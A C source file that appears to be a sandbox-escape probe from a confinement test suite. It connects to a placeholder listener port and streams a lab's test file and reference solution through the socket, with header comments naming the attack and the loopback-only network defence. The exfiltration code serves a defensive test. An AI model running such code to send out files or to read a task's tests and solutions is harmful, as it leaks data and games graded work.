/*
 * attack: sends the tests and the solution to a listener outside
 * row: B2
 * would show: the listener heard something
 * unconfined: works
 * defence: a network of its own with nothing but loopback
 */
#include "attack.h"
#include <arpa/inet.h>

int main(void) {
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons((unsigned short)atoi("@PORT@"))};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0) {
        worked("@MARK@ is outside");
        dup2(fd, 2);
        spill("@TREE@/tests/labs/01-socket.bats");
        spill("@TREE@/solutions/01-socket/socket.c");
    }
    return 1;
}
